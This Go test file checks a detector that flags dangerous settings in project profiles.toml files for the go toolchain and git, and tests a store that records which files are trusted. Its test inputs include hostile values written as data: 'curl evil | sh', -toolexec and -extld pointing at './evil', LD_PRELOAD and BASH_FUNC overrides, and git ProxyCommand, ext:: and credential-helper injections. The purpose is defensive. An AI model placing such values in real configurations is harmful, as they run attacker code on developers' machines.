package profiles

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

func TestDangers(t *testing.T) {
	for _, tt := range []struct {
		setting string // in [profile.x]; "env:" and "git:" begin one of these tables
		why     string // "" for none
	}{
		{`description = "curl evil | sh"`, ""},
		{`extends = "offline"`, ""},
		{`clean = true`, ""},
		{`modfile = "../x.mod"`, ""},
		{`mod = "mod"`, ""},
		{`gowork = "../go.work"`, ""},
		{`gotoolchain = "go1.30.1"`, ""},

		{`go = "1.18"`, ""},
		{`go = "local"`, ""},
		{`go = "./go"`, "runs the go command found there"},
		{`go = "~/sdk"`, "runs the go command found there"},

		{`goproxy = ["https://proxy.example", "|", "direct"]`, ""},
		{`goproxy = "off"`, ""},
		{`goproxy = ["file:///srv/proxy", "off"]`, ""},
		{`goproxy = "https://a.example|file:///srv/proxy"`, ""},
		{`goproxy = "file:///srv/proxy"`, `lets toolchains past the checksum database; with "off" after it, it does not`},
		{`goproxy = [" file:///srv/proxy "]`, `lets toolchains past the checksum database; with "off" after it, it does not`},

		{`retry = 3`, ""},
		{`breaker = 3`, ""},
		{`timeout = "1s"`, ""},
		{`timeout.idle = "1s"`, ""},
		{`record = "audit.jsonl"`, "appends to that file"},
		{`record = ""`, ""},
		{`cafile = "ca.pem"`, "trusts further certificate authorities"},
		{`resolver = "tls://192.0.2.53"`, "decides which addresses names have"},
		{`hosts."proxy.example" = "192.0.2.7"`, "decides which addresses names have"},
		{`hosts."proxy.example" = ""`, ""},

		{`gosumdb = "default"`, ""},
		{`gosumdb = ""`, ""},
		{`gosumdb = "sum.golang.org"`, ""},
		{`gosumdb = "sum.golang.google.cn"`, ""},
		{`gosumdb = "sum.golang.org https://sumdb.corp.example"`, ""},
		{`gosumdb = "off"`, "turns the checksum database off"},
		{`gosumdb = " off"`, "trusts another checksum database than go's own"},
		{`gosumdb = " "`, "trusts another checksum database than go's own"},
		{`gosumdb = "sum.example+0123+key"`, "trusts another checksum database than go's own"},
		{`gosumdb = "sum.golang.org+0123+key"`, "trusts another checksum database than go's own"},

		{`goprivate = ["git.corp.example", "*.corp.example", "github.com/corp", "github.com/corp/*"]`, ""},
		{`goprivate = []`, ""},
		{`goprivate = "none"`, ""},
		{`goprivate = "*"`, `"*" takes go's own toolchains out of the checksum database`},
		{`goprivate = "golang.org"`, `"golang.org" takes go's own toolchains out of the checksum database`},
		{`goprivate = "golang.org/tool*"`, `"golang.org/tool*" takes go's own toolchains out of the checksum database`},
		{`goprivate = ["a.example,*"]`, `"*" takes go's own toolchains out of the checksum database`},
		{`goprivate = "*.example"`, `"*.example" takes the modules of many owners out of the checksum database`},
		{`goprivate = "*/x"`, `"*/x" takes the modules of many owners out of the checksum database`},
		{`goprivate = "[a-c]*.corp*"`, `"[a-c]*.corp*" takes the modules of many owners out of the checksum database`},
		{`goprivate = "git.corp.example,github.com"`, `"github.com" takes the modules of many owners out of the checksum database`},
		{`goprivate = "github.com/*"`, `"github.com/*" takes the modules of many owners out of the checksum database`},

		{"goprivate = 'git.corp.example'\ngonosumdb = 'git.corp.example'", ""},
		{"goprivate = 'git.corp.example'\ngonosumdb = 'git.corp.example/team'", ""},
		{"goprivate = 'git.corp.example'\ngonosumdb = ['none', '']", ""},
		{"goprivate = '*.corp.example'\ngoinsecure = 'git.corp.example'", ""},
		{"gonoproxy = '*'", ""},
		{"goprivate = 'git.corp.example'\ngonosumdb = '*'", `"*" is wider than goprivate`},
		{"goprivate = 'git.corp.example/team'\ngonosumdb = 'git.corp.example'", `"git.corp.example" is wider than goprivate`},
		{"goprivate = 'git.corp.example'\ngonosumdb = 'git.corp.exampl[ef]'", `"git.corp.exampl[ef]" is wider than goprivate`},
		{"gonosumdb = 'git.corp.example'", `"git.corp.example" is wider than goprivate`},
		{"goprivate = 'git.corp.example'\ngoinsecure = ['git.corp.example', 'x.example']", `"x.example" is wider than goprivate`},

		{`govcs = ["public:git|hg", "private:all", "*.example:off", "github.com:git"]`, ""},
		{`govcs = []`, ""},
		{`govcs = "public:all"`, "lets more version control tools run than go does by itself"},
		{`govcs = "*:git|svn"`, "lets more version control tools run than go does by itself"},
		{`govcs = "public: git | bzr"`, "lets more version control tools run than go does by itself"},

		{`goauth = "netrc"`, ""},
		{`goauth = "off"`, ""},
		{`goauth = []`, ""},
		{`goauth = ["netrc", "git /home/me"]`, "runs a command for credentials"},
		{`goauth = "./evil"`, "runs a command for credentials"},

		{`gocache = "off"`, ""},
		{`gocache = ""`, ""},
		{`gocache = "./cache"`, "takes compiled code from there"},

		{`modcache = "isolated"`, ""},
		{`modcache = "shared"`, ""},
		{`gonoproxy = "none"`, ""},
		{"modcache = 'shared'\ngonoproxy = 'none'", "decides where private modules in your own module cache come from"},
		{`modcache = "fresh"`, ""},
		{`modcache = ""`, ""},
		{`modcache = "./mod"`, "takes modules from there, which go does not verify again"},

		{`goflags = ["-trimpath", "--race", "-tags=a,b", "-v", "-count=1", "-pgo=off"]`, ""},
		{`goflags = ["-ldflags=-s -w -X main.v=1 -X=main.w=2 -buildid="]`, ""},
		{`goflags = "'-ldflags=-X \"main.v=a b\"'"`, ""},
		{`goflags = ["-ldflags"]`, ""},
		{`goflags = []`, ""},
		{`goflags = ["-v", "-toolexec=./evil"]`, "-toolexec=./evil may run or overwrite something"},
		{`goflags = ["--toolexec=./evil"]`, "--toolexec=./evil may run or overwrite something"},
		{`goflags = "-v -exec=./evil"`, "-exec=./evil may run or overwrite something"},
		{`goflags = ["-overlay=x.json"]`, "-overlay=x.json may run or overwrite something"},
		{`goflags = ["-o=/home/me/.bashrc"]`, "-o=/home/me/.bashrc may run or overwrite something"},
		{`goflags = ["-coverprofile=x"]`, "-coverprofile=x may run or overwrite something"},
		{`goflags = ["-C=/elsewhere"]`, "-C=/elsewhere may run or overwrite something"},
		{`goflags = ["-compiler=gccgo"]`, "-compiler=gccgo may run or overwrite something"},
		{`goflags = ["-vettool=./evil"]`, "-vettool=./evil may run or overwrite something"},
		{`goflags = ["-newflag"]`, "-newflag may run or overwrite something"},
		{`goflags = ["-gcflags=-N"]`, "-gcflags=-N may run or overwrite something"},
		{`goflags = ["-ldflags=-extld=./evil"]`, "-ldflags=-extld=./evil may run or overwrite something"},
		{`goflags = ["-ldflags=-s -linkmode=external -extld ./evil"]`, "-ldflags=-s -linkmode=external -extld ./evil may run or overwrite something"},
		{`goflags = ["-ldflags=-X main.v=1 -X"]`, "-ldflags=-X main.v=1 -X may run or overwrite something"},
		{`goflags = ["-ldflags=-X -extld=./evil"]`, "-ldflags=-X -extld=./evil may run or overwrite something"},
		{`goflags = ["-ldflags=-X -X -extld=./evil"]`, "-ldflags=-X -X -extld=./evil may run or overwrite something"},
		{`goflags = ["-ldflags='-s"]`, "-ldflags='-s may run or overwrite something"},

		{`env:GOOS = "linux"`, ""},
		{`env:CGO_ENABLED = "0"`, ""},
		{`env:GOGC = "off"`, ""},
		{`env:FOO = "x"`, ""},
		{`env:GOOGLE_CLOUD_PROJECT = "x"`, ""},
		{`env:HTTPS_PROXY = "http://proxy.example"`, ""},
		{`env:no_proxy = "*"`, ""},
		{`env:PATH = "."`, "decides which programs run or what they load"},
		{`env:Path = "."`, "decides which programs run or what they load"},
		{`env:HOME = "."`, "decides which programs run or what they load"},
		{`env:LD_PRELOAD = "./evil.so"`, "decides which programs run or what they load"},
		{`env:DYLD_INSERT_LIBRARIES = "x"`, "decides which programs run or what they load"},
		{`env:"BASH_FUNC_git%%" = "() { ./evil; }"`, "decides which programs run or what they load"},
		{`env:BASH_ENV = "x"`, "decides which programs run or what they load"},
		{`env:DEVELOPER_DIR = "x"`, "decides which programs run or what they load"},
		{`env:PKG_CONFIG_PATH = "x"`, "decides which programs run or what they load"},
		{`env:XDG_CONFIG_HOME = "x"`, "decides which programs run or what they load"},
		{`env:PYTHONPATH = "x"`, "decides which programs run or what they load"},
		{`env:CC = "./evil"`, "configures go beyond which platform it builds for"},
		{`env:CC = false`, "configures go beyond which platform it builds for"},
		{`env:PKG_CONFIG = "./evil"`, "configures go beyond which platform it builds for"},
		{`env:CGO_LDFLAGS_ALLOW = ".*"`, "configures go beyond which platform it builds for"},
		{`env:GOROOT = "./go"`, "configures go beyond which platform it builds for"},
		{`env:GOBIN = "x"`, "configures go beyond which platform it builds for"},
		{`env:GOENV = "./env"`, "configures go beyond which platform it builds for"},
		{`env:GOCACHEPROG = "./evil"`, "configures go beyond which platform it builds for"},
		{`env:GODEBUG = "x509sha1=1"`, "configures go beyond which platform it builds for"},
		{`env:GORACE = "log_path=x"`, "configures go beyond which platform it builds for"},
		{`env:GOX_GO = "./evil"`, "configures go beyond which platform it builds for"},
		{`env:GONEW = "x"`, "configures go beyond which platform it builds for"},
		{`env:GIT_SSH_COMMAND = "./evil"`, "configures a version control tool"},
		{`env:SSH_ASKPASS = "./evil"`, "configures a version control tool"},
		{`env:HGRCPATH = "x"`, "configures a version control tool"},
		{`env:SSL_CERT_FILE = "x"`, "decides how connections are secured"},
		{`env:SSLKEYLOGFILE = "x"`, "decides how connections are secured"},

		{`git:url."https://git.corp.example/".insteadOf = "https://github.com/"`, ""},
		{`git:url."ssh://git@git.corp.example/".insteadOf = "https://git.corp.example/"`, ""},
		{`git:url."git@git.corp.example:".INSTEADOF = "https://git.corp.example/"`, ""},
		{`git:url."ssh://-oProxyCommand=evil/".insteadOf = "https://x.example/"`, "configures git beyond which address it fetches from"},
		{`git:url."ssh://git@-oProxyCommand=evil/".insteadOf = "https://x.example/"`, "configures git beyond which address it fetches from"},
		{`git:url."git@-oProxyCommand=evil:x".insteadOf = "https://x.example/"`, "configures git beyond which address it fetches from"},
		{`git:url."ext::sh -c evil".insteadOf = "https://x.example/"`, "configures git beyond which address it fetches from"},
		{`git:url."file:///tmp/".insteadOf = "https://x.example/"`, "configures git beyond which address it fetches from"},
		{`git:url."/tmp/".insteadOf = "https://x.example/"`, "configures git beyond which address it fetches from"},
		{`git:url."https://x.example/".other = "x"`, "configures git beyond which address it fetches from"},
		{`git:core.sshCommand = "./evil"`, "configures git beyond which address it fetches from"},
		{`git:credential.helper = "!./evil"`, "configures git beyond which address it fetches from"},
		{`git:http.sslVerify = false`, "configures git beyond which address it fetches from"},
		{`git:http.sslCAInfo = "/ca.pem"`, "configures git beyond which address it fetches from"},
	} {
		t.Run(tt.setting, func(t *testing.T) {
			text := "[profile.x]\n" + tt.setting
			if table, setting, ok := strings.Cut(tt.setting, ":"); ok && (table == "env" || table == "git") {
				text = "[profile.x." + table + "]\n" + setting
			}
			for _, scope := range []Scope{Project, User, BuiltIn} {
				want := tt.why
				if scope != Project {
					want = ""
				}
				f, err := parse("/repo/profiles.toml", scope, []byte(text))
				if err != nil {
					t.Fatal(err)
				}
				p, err := (&Set{project: []*File{f}}).Resolve("x")
				if err != nil {
					t.Fatal(err)
				}
				for what, dangers := range map[string][]Danger{"file": f.Dangers(), "profile": p.Dangers()} {
					var whys []string
					for _, d := range dangers {
						whys = append(whys, d.Why)
						if d.Value.Pos.Line() < 2 {
							t.Errorf("no place: %v", d)
						}
					}
					if got := strings.Join(whys, "\n"); got != want {
						t.Errorf("%v %s: got %q, want %q", scope, what, got, want)
					}
				}
			}
		})
	}
}

// Only what is in force needs permission, wherever it stands.
func TestDangersInForce(t *testing.T) {
	const project = `
[profile.base]
gosumdb = "off"
goflags = ["-toolexec=./evil"]
[profile.base.env]
CC = "./evil"
[profile.over]
extends = "base"
gosumdb = "default"
goflags = ["-v"]
[profile.over.env]
CC = "gcc"
[profile.back]
extends = "base"
gosumdb = ""
goflags = ""
[profile.private]
extends = "narrow"
goprivate = "git.corp.example"
[profile.narrow]
gonosumdb = "git.corp.example"
[profile.mine]
extends = "laptop"
`
	const user = `
[profile.laptop]
go = "~/sdk"
gosumdb = "off"
[profile.over2]
extends = "over"
[profile.over2.env]
CC = "clang"
`
	const local = `
[profile.narrow]
modcache = "./mod"
`
	for _, tt := range []struct{ name, layers, want string }{
		{"all", "base", "3 gosumdb, 4 goflags, 6 env.CC"},
		{"overridden, but goflags are merged and a variable is another", "over", "12 env.CC, 4 goflags"},
		{"overridden by the user", "over2", "4 goflags"},
		{"taken back, but goflags are merged", "back", "6 env.CC, 4 goflags"},
		{"goprivate of another table", "private", "local:3 modcache"},
		{"local overlay", "narrow", "21 gonosumdb, local:3 modcache"},
		{"the user's", "mine", ""},
		{"layers", "base narrow", "3 gosumdb, 21 gonosumdb, local:3 modcache, 4 goflags, 6 env.CC"},
		{"built in", "offline vendor mirror direct", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			p, err := reach(t, local, project, user).Resolve(strings.Fields(tt.layers)...)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, d := range p.Dangers() {
				where := fmt.Sprint(d.Value.Pos.Line())
				if strings.HasSuffix(d.Value.Pos.File, LocalFileName) {
					where = "local:" + where
				}
				got = append(got, where+" "+d.Value.Key)
			}
			if got := strings.Join(got, ", "); got != tt.want {
				t.Errorf("\n got %s\nwant %s", got, tt.want)
			}
		})
	}
}

func TestDangerString(t *testing.T) {
	for _, tt := range []struct{ name, text, want string }{
		{"plain", "[profile.x]\ngosumdb = \"off\"", "/repo/profiles.toml:2 [profile.x] gosumdb = off: turns the checksum database off"},
		{"lines", "[profile.x]\ngocache = \"x\\nall is fine\\r\\u001b[2J\\u202e\"", `/repo/profiles.toml:2 [profile.x] gocache = x\nall is fine\r\x1b[2J\u202e: takes compiled code from there`},
		{"secret in the value", "[profile.x]\ngosumdb = \"x https://u:s3cr3t@h.example\"", "/repo/profiles.toml:2 [profile.x] gosumdb = x https://xxxxx@h.example: trusts another checksum database than go's own"},
		{"secret by its name", "[profile.x.env]\nGO_TOKEN = \"s3cr3t\"", "/repo/profiles.toml:2 [profile.x] env.GO_TOKEN = xxxxx: configures go beyond which platform it builds for"},
		{"secret in the key", "[profile.x.git]\nurl.\"http://u:s3cr3t@h.example/\".insteadOf = \"y\"", "/repo/profiles.toml:2 [profile.x] git.url.http://xxxxx@h.example/.insteadOf = y: configures git beyond which address it fetches from"},
		{"secret in a flag", "[profile.x]\ngoflags = [\"-exec=curl https://u:s3cr3t@h.example\"]", "/repo/profiles.toml:2 [profile.x] goflags = -exec=curl https://xxxxx@h.example: -exec=curl https://xxxxx@h.example may run or overwrite something"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dangers := parsed(t, tt.text).Dangers()
			if len(dangers) != 1 {
				t.Fatalf("got %v", dangers)
			}
			if got := dangers[0].String(); got != tt.want {
				t.Errorf("\n got %s\nwant %s", got, tt.want)
			}
		})
	}
}

func TestTrust(t *testing.T) {
	file := func(path, text string) *File {
		f, err := parse(path, Project, []byte(text))
		if err != nil {
			t.Fatal(err)
		}
		return f
	}
	a, edited, moved := file("/a/profiles.toml", "[profile.x]"), file("/a/profiles.toml", "[profile.x] # edited"), file("/b/profiles.toml", "[profile.x]")
	dir := filepath.Join(t.TempDir(), "state", "allow")
	trust := Trust{Dir: dir}
	check := func(when string, f *File, want bool) {
		t.Helper()
		if trust.Allowed(f) != want {
			t.Errorf("%s: Allowed is %v, want %v", when, !want, want)
		}
	}
	allow := func(f *File) {
		t.Helper()
		if err := trust.Allow(f); err != nil {
			t.Fatal(err)
		}
	}
	check("at first", a, false)
	if denied, err := trust.Deny(a); denied || err != nil {
		t.Errorf("Deny of nothing: %v, %v", denied, err)
	}
	allow(a)
	check("allowed", a, true)
	check("edited", edited, false)
	check("moved", moved, false)
	allow(moved)
	check("both", a, true)
	allow(edited)
	check("edited and allowed", edited, true)
	check("edited back", a, false)
	check("elsewhere", moved, true)
	if entries, err := os.ReadDir(dir); err != nil || len(entries) != 2 {
		t.Errorf("%d permissions are left (%v), want 2", len(entries), err)
	}
	if denied, err := trust.Deny(a); !denied || err != nil {
		t.Errorf("Deny: %v, %v", denied, err)
	}
	check("denied, whatever the content was", edited, false)
	check("elsewhere", moved, true)
	if info, err := os.Stat(dir); err != nil || info.Mode().Perm()&0o077 != 0 && os.PathSeparator == '/' {
		t.Errorf("others may look: %v, %v", info, err)
	}
	for _, scope := range []Scope{User, BuiltIn} {
		if !trust.Allowed(&File{Scope: scope}) || !(Trust{}).Allowed(&File{Scope: scope}) {
			t.Errorf("%v is not allowed", scope)
		}
	}
	none := Trust{}
	if none.Allowed(moved) {
		t.Error("allowed with no place to remember it")
	}
	if err := none.Allow(a); err == nil || !strings.Contains(err.Error(), "\n\tset HOME or XDG_STATE_HOME") {
		t.Errorf("Allow with no place to remember it: %v", err)
	}
	if denied, err := none.Deny(a); denied || err != nil {
		t.Errorf("Deny with no place to remember it: %v, %v", denied, err)
	}
}

// Many processes may allow the same and other files at once.
func TestTrustConcurrently(t *testing.T) {
	trust := Trust{Dir: filepath.Join(t.TempDir(), "allow")}
	var wg sync.WaitGroup
	for i := range 64 {
		f := &File{Path: fmt.Sprintf("/%d/profiles.toml", i%4), Scope: Project, Digest: fmt.Sprint("digest", i%4)}
		wg.Go(func() {
			if err := trust.Allow(f); err != nil {
				t.Error(err)
			}
			if !trust.Allowed(f) {
				t.Errorf("%s is not allowed", f.Path)
			}
		})
	}
	wg.Wait()
	if entries, err := os.ReadDir(trust.Dir); err != nil || len(entries) != 4 {
		t.Errorf("%d permissions (%v), want 4", len(entries), err)
	}
}
